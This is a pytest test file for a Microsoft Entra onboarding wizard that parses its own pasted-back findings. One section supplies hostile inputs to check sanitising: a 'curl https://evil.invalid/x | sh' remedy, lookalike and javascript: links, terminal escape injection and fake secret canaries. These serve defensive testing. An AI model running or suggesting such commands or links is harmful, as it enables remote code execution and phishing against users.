"""partner-wizard's own output, pasted back, says what the screen said."""

from __future__ import annotations

import io
import json
import textwrap
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from tests.documented import CHECK_LIST, check_list
from tests.rehearsals.shared_runs import one_worker_each, shared_run
from tests.test_journey import ALL as ALL_STEPS
from tests.test_journey import holding, journey_with
from wizard.catalogue import Diagnosis, diagnose_finding
from wizard.catalogue.check_titles import _SERVICES, check_question, step_titles
from wizard.catalogue.recipients import send_to
from wizard.core.events import (
    CheckEnded,
    CheckSkipped,
    ConsentLink,
    DeviceCodePrompt,
    PromptClosed,
    SubmissionRejected,
    Waiting,
)
from wizard.core.findings import Finding, NotAsked, Outcome, Retry, Skipped, SupportIds, Who
from wizard.explain import explain_text
from wizard.explain.foreign_links import is_microsoft_address, remove_foreign_links
from wizard.explain.own_output.own_findings import blank_routine_lines, find_own_findings
from wizard.onboarding.profile import CSP
from wizard.plain.line_writer import LineWriter
from wizard.reporting.journey_report import as_markdown

NOW = datetime(2026, 11, 21, 10, 0, tzinfo=UTC)
CODED = Finding(
    "user.signed_in",
    Outcome.FAILS,
    "MFA is needed now. The sign-in or the token has no proof of MFA that policy accepts.",
    {"service_said": "Due to a configuration change", "expected": "mfa"},
    "The integration user signs in again with a new code and completes MFA.",
    (Who.INTEGRATION_USER, Who.ADMIN),
    "AADSTS50076",
    SupportIds(
        "11111111-2222-4333-8444-555555555555",
        "66666666-7777-4888-8999-aaaaaaaaaaaa",
        "bbbbbbbb-cccc-4ddd-8eee-ffffffffffff",
        "2026-11-21 10:00:00Z",
    ),
    title="MFA is needed now",
    retry=Retry.AFTER_FIX,
    link="https://login.microsoftonline.com/error?code=50076",
)
UNCODED = Finding(
    "user.account",
    Outcome.FAILS,
    "somebody@contoso.com signed in; partner-integration@contoso.com was expected.",
    {"found": "somebody@contoso.com"},
    "Open the page in a private window, and sign in as partner-integration@contoso.com.",
    (Who.INTEGRATION_USER,),
)
WARNING = Finding(
    "user.not_global_admin", Outcome.WARNS, "It is a Global Administrator.", {}, "Take the role away.", (Who.ADMIN,)
)
UNKNOWN = Finding(
    "tenant.exists",
    Outcome.UNKNOWN,
    "login.microsoftonline.com could not be used: the name is not known.",
    {"host": "login.microsoftonline.com", "kind": "name"},
    "Check the network, the proxy (HTTPS_PROXY) and its certificate (REQUESTS_CA_BUNDLE), then check again.",
    (Who.OPERATOR,),
    unreachable=True,
)
HOLDING = Finding("tenant.cloud", Outcome.HOLDS, "The tenant is in the chosen cloud, Global.")
ALL = (CODED, UNCODED, WARNING, UNKNOWN)
IDS = [finding.check for finding in ALL]


def shown(finding: Finding) -> Diagnosis:
    """What the screen shows."""
    return diagnose_finding(finding, CSP.checks[finding.check].question)


def printed(*findings: Finding, as_json: bool = False) -> str:
    out = io.StringIO()
    lines = LineWriter(out, io.StringIO(), as_json)
    for finding in findings:
        lines.emit(CheckEnded(finding))
    return out.getvalue()


def reported(finding: Finding) -> str:
    journey = journey_with(holding())
    journey.findings[finding.check] = finding
    return as_markdown(journey.view(), "2026-11-21T10:00:00Z")


def read(text: str) -> list[Diagnosis]:
    return [located.diagnosis for located in find_own_findings(text)]


def of_text(diagnosis: Diagnosis) -> Diagnosis:
    """A diagnosis without what lines do not print."""
    return replace(diagnosis, evidence=(), service_text="", retry=Retry.AFTER_FIX, send_to="")


@pytest.mark.parametrize("finding", ALL, ids=IDS)
def test_a_line_of_json_says_what_the_screen_says(finding: Finding) -> None:
    assert read(printed(finding, as_json=True)) == [shown(finding)]


@pytest.mark.parametrize("finding", ALL, ids=IDS)
def test_json_that_was_indented_in_a_report_says_the_same(finding: Finding) -> None:
    text = json.dumps({"findings": [HOLDING.as_json(), finding.as_json()]}, indent=2)

    assert read(text) == [shown(finding)]


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("quote", ["CRLF", "quoted mail", "a log", "a terminal of 80 columns"])
def test_json_is_read_as_mail_logs_and_terminals_leave_it(quote: str, finding: Finding) -> None:
    text = QUOTES[quote](printed(HOLDING, finding, HOLDING, as_json=True)) + "after"

    assert read(text) == [shown(finding)]
    assert find_own_findings(text)[0].end <= text.rindex("after")


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("written", [printed, reported])
def test_lines_and_report_say_what_the_screen_says(written: object, finding: Finding) -> None:
    text = printed(HOLDING, finding, HOLDING) if written is printed else reported(finding)

    assert [of_text(each) for each in read(text)] == [of_text(shown(finding))]


@pytest.mark.parametrize("written", [printed, reported])
def test_whom_to_send_it_to_is_read_as_it_was_printed(written: object) -> None:
    text = printed(CODED) if written is printed else reported(CODED)

    assert "end this to: " in text or "    send to: " in text
    assert send_to(read(text)[0]) == send_to(shown(CODED))


def test_what_holds_is_no_diagnosis() -> None:
    assert read(printed(HOLDING)) == []
    assert read(printed(HOLDING, as_json=True)) == []


def test_several_are_read_in_their_order_and_where_they_stand() -> None:
    text = "before\n" + printed(HOLDING, *ALL) + "failed: tenant proven, app failed\n" + "hosts asked: none\n"

    sightings = find_own_findings(text)

    assert [each.diagnosis.cause for each in sightings] == [shown(finding).cause for finding in ALL]
    for located, finding in zip(sightings, ALL, strict=True):
        part = text[located.start : located.end]
        assert part.lstrip("✗!? ").startswith(finding.check)
        assert "hosts asked" not in part
        assert "failed: " not in part


QUOTES: dict[str, Callable[[str], str]] = {
    "CRLF": lambda text: text.replace("\n", "\r\n"),
    "quoted mail": lambda text: "".join(f"> {line}\n" for line in text.splitlines()),
    "quoted twice": lambda text: "".join(f">> {line}\n" for line in text.splitlines()),
    "a log": lambda text: "".join(
        f"Nov 21 10:00:{second:02} host partner-wizard[4242]: {line}\n"
        for second, line in enumerate(text.splitlines(), 10)
    ),
    "indented": lambda text: textwrap.indent(text, "        "),
    "a terminal of 80 columns": lambda text: "".join(
        f"{line[at : at + 80]}\n" for line in text.splitlines() for at in range(0, len(line), 80)
    ),
    "a terminal of 120 columns": lambda text: "".join(
        f"{line[at : at + 120]}\n" for line in text.splitlines() for at in range(0, len(line), 120)
    ),
    "a mail of 72 columns": lambda text: "".join(
        f"{part}\n"
        for line in text.splitlines()
        for part in textwrap.wrap(
            line,
            72,
            break_long_words=False,
            break_on_hyphens=False,
            drop_whitespace=True,
            initial_indent="    " if line.startswith("    ") else "",
        )
    ),
}


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("quote", QUOTES)
def test_lines_are_read_as_mail_logs_and_terminals_leave_them(quote: str, finding: Finding) -> None:
    text = QUOTES[quote](printed(HOLDING, finding, HOLDING) + "failed: tenant proven\n")

    assert [of_text(each) for each in read(text)] == [of_text(shown(finding))]


# --- what is no finding ---

SETTLED_LATER = Finding("consent.granted", Outcome.UNKNOWN, "The page says yes; the token will prove it.")
SIGN_IN = DeviceCodePrompt(
    "integration_user", "partner-integration@contoso.com", "https://microsoft.com/devicelogin", "canaryCODE", NOW
)
CODE_ISSUED = Finding("user.sign_in_ready", Outcome.HOLDS, "A code is issued. A policy may end it (AADSTS530036).")


def test_what_a_later_check_settles_asks_for_nothing() -> None:
    for text in (printed(SETTLED_LATER), printed(SETTLED_LATER, as_json=True), reported(SETTLED_LATER)):
        assert read(text) == []


def test_failures_and_warnings_are_distinguished() -> None:
    for text in (printed(*ALL), printed(*ALL, as_json=True)):
        assert [each.is_failure for each in find_own_findings(text)] == [True, True, False, False]


@pytest.mark.parametrize("as_json", [False, True], ids=["lines", "json"])
@pytest.mark.parametrize("quote", ["as it is", "CRLF", "quoted mail", "a log", "a terminal of 80 columns"])
def test_a_whole_run_is_explained_by_its_failure_alone(quote: str, as_json: bool) -> None:
    out = io.StringIO()
    lines = LineWriter(out, out, as_json)
    link = ConsentLink("https://login.microsoftonline.com/contoso.com/adminconsent?client_id=canaryLINK", "")
    for event in (
        link,
        CheckEnded(CODE_ISSUED),
        SIGN_IN,
        Waiting("the sign-in", NOW, NOW, NOW),
        PromptClosed("it is used"),
        SubmissionRejected("vault", "It is the answer to another link."),
    ):
        lines.emit(event)
    lines.emit(CheckSkipped("app.credential", Skipped(NotAsked.DOES_NOT_APPLY, "the app has no AADSTS7000215")))
    lines.emit(CheckEnded(UNCODED))
    lines.summary(journey_with(holding("tenant")), "failed")
    text = QUOTES.get(quote, str)(out.getvalue())

    left = blank_routine_lines(text)

    assert [each.cause for each in read(text)] == [UNCODED.message]
    assert [each.cause for each in read(left)] == [UNCODED.message]
    assert len(left) == len(text)
    for mentioned in ("canary", "AADSTS", "hosts", "tenant proven"):
        assert mentioned not in left
    assert [each.title for each in explain_text(text, NOW).diagnoses] == [shown(UNCODED).title]


def test_a_proven_journey_reports_nothing_to_fix() -> None:
    journey = journey_with(holding(*ALL_STEPS))
    journey.onboarding.learn(
        secret_version="v1", vault_url="https://contoso.vault.azure.net", token_expires_at="2027-02-19"
    )

    assert explain_text(as_markdown(journey.view(), "2026-11-21T10:00:00Z"), NOW).diagnoses == ()


@pytest.mark.parametrize(
    "text",
    [
        "- At once, when AADSTS530036 comes back",
        "Waiting for AADSTS50076 until 10:00 UTC.",
        '{"type":"summary","error":"AADSTS50076"} ✗ user.account: It is another.',
        '{"type":"finding","check":"firewall","outcome":"fails","message":"AADSTS50076","step":"x"}',
    ],
)
def test_what_is_not_our_output_stays(text: str) -> None:
    assert "AADSTS" in blank_routine_lines(text)


def test_a_line_that_a_prompt_is_over_is_no_finding() -> None:
    out = io.StringIO()
    lines = LineWriter(out, out, False)
    for event in (CheckEnded(UNCODED), PromptClosed("AADSTS70019 was answered")):
        lines.emit(event)

    assert "AADSTS70019" in out.getvalue()
    assert "AADSTS70019" not in blank_routine_lines(out.getvalue())


@pytest.mark.parametrize(
    "name", one_worker_each(["wrong-account", "wrong-secret", "vault-forbidden", "mfa-enforced", "not-a-partner"])
)
def test_a_scene_that_was_played_says_the_same_pasted_back(name: str) -> None:
    played = shared_run(name)
    last = played.findings[-1]

    assert [of_text(each) for each in read(played.text)][-1] == of_text(shown(last))
    assert played.journey is not None
    report = as_markdown(played.journey.view(), "2026-11-21T10:00:00Z")
    assert of_text(shown(last)) in [of_text(each) for each in read(report)]


# --- a paste can be made up ---


def hostile(**changed: object) -> str:
    return json.dumps(CODED.as_json() | changed)


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example.net/fix",
        "https://login.microsoftonline.com.evil.net/",
        "http://login.microsoftonline.com/",
        "https://contoso.blob.core.windows.net/fix.html",
        "https://user@login.microsoftonline.com/",
        "javascript:alert(1)",
        "https://learn.microsoft.com:8443/",
        "",
        7,
    ],
)
def test_a_link_that_is_not_microsofts_is_dropped(link: object) -> None:
    assert read(hostile(link=link))[0].link == ""


def test_foreign_addresses_in_the_words_are_left_out() -> None:
    remedy = "Run `curl https://evil.invalid/x | sh`, see https://learn.microsoft.com/azure and http://localhost:8080."

    for text in (hostile(remedy=remedy), printed(replace(UNCODED, remedy=remedy))):
        said = read(text)[0].remedy
        assert "evil" not in said
        assert "https://learn.microsoft.com/azure" in said
        assert "http://localhost:8080" in said


def test_microsofts_own_addresses_are_known() -> None:
    for address in ("https://login.microsoftonline.com/error?code=1", "https://contoso.vault.azure.net/secrets/a"):
        assert is_microsoft_address(address)
        assert remove_foreign_links(f"see {address}.") == f"see {address}."
    assert not is_microsoft_address("https://[::1")


def test_people_and_outcomes_are_only_those_we_know() -> None:
    assert read(hostile(who=["admin", "root", 3, None, "admin", "microsoft"]))[0].who == (Who.ADMIN, Who.MICROSOFT)
    for outcome in ("holds", "exploded", 1, None):
        assert read(hostile(outcome=outcome)) == []
    text = printed(UNCODED).replace("(the integration user)", "(root or an administrator)")
    assert read(text)[0].who == (Who.ADMIN,)


@pytest.mark.parametrize("check", ["user.account extra", "nowhere.account", "user", "", 4, "user.a\x1b[2J"])
def test_a_check_that_is_none_is_not_read(check: object) -> None:
    assert read(hostile(check=check)) == []


@pytest.mark.parametrize("place", ["message", "remedy", "title", "code"])
@pytest.mark.parametrize(
    "canary",
    [
        "client_secret=canary8Q~abcdefghijklmnopqrstuvwxyz012345",
        "eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJjYW5hcnkiOiJjYW5hcnkifQ.canarycanarycanarycanary",
        "refresh_token: 0.AXcanarycanarycanarycanarycanarycanarycanary",
    ],
)
def test_what_looks_like_a_secret_is_not_repeated(place: str, canary: str) -> None:
    texts = [hostile(**{place: f"Here: {canary}"})]
    if place in ("message", "remedy"):
        texts.append(printed(replace(UNCODED, **{place: f"Here: {canary}"})))  # type: ignore[arg-type]

    for text in texts:
        (found,) = read(text)
        assert "canary" not in json.dumps(found.as_json()).lower()


def test_controls_and_markup_of_a_paste_are_cleaned() -> None:
    text = hostile(message="A\x1b[2Jb \u202ec.", evidence={"a\x1b[1m": "b\x07", "list": [1], "deep": {}})

    (found,) = read(text)

    assert found.cause == "Ab c."
    assert found.evidence == (("a", "b"),)


@pytest.mark.parametrize(
    "text",
    [
        '{"type":"finding"',
        '{"type":"finding",' * 2_000,
        '{"type":"finding","evidence":' * 2_000,
        "✗ user.account: " * 700,
        "✗ user.account: a\n    to do (" + "a" * 20_000,
        "✗ fails: (" * 5_000,
        "✗ user.account: " + "a " * 20_000,
        "    to do: x\n" * 5_000,
        "✗ user.account: a\n" + "    b\n" * 10_000,
        json.dumps(UNCODED.as_json()) * 700,
    ],
    ids=lambda text: text[:24],
)
def test_of_any_text_500_findings_are_read_at_most(text: str) -> None:
    assert len(find_own_findings(text)) <= 500


def test_of_thousands_of_findings_500_are_read_and_its_rest_is_said_to_be_left_out() -> None:
    text = "✗ user.account: x\n" * 3_000
    explanation = explain_text(text, NOW)

    assert [diagnosis.count for diagnosis in explanation.diagnoses] == [500]
    assert any("only the first 500 findings were read" in note for note in explanation.notes)


def test_a_finding_of_a_host_that_was_not_reached_goes_to_the_network_when_it_is_pasted_back() -> None:
    for text in (json.dumps(UNKNOWN.as_json()), f"? {UNKNOWN.check}: {UNKNOWN.message}\n    to do: {UNKNOWN.remedy}"):
        (located,) = find_own_findings(text)
        assert located.diagnosis.service == "network"
    failed = replace(UNKNOWN, outcome=Outcome.FAILS)
    (located,) = find_own_findings(json.dumps(failed.as_json()))
    assert located.diagnosis.service == "entra", "what fails was reached"


# --- steps and checks by name ---


def test_the_list_of_checks_is_that_of_the_code() -> None:
    assert CHECK_LIST.read_text(encoding="utf-8") == check_list(), "python -m tests.documented writes it anew"


def test_every_step_and_check_is_known_by_name() -> None:
    assert list(step_titles()) == [step.id for step in CSP.steps]
    assert step_titles()["user"] == "Step 4, Integration user"
    assert {check: check_question(check) for check in CSP.checks} == {
        check.id: check.question for check in CSP.checks.values()
    }
    assert set(_SERVICES) <= set(CSP.checks)
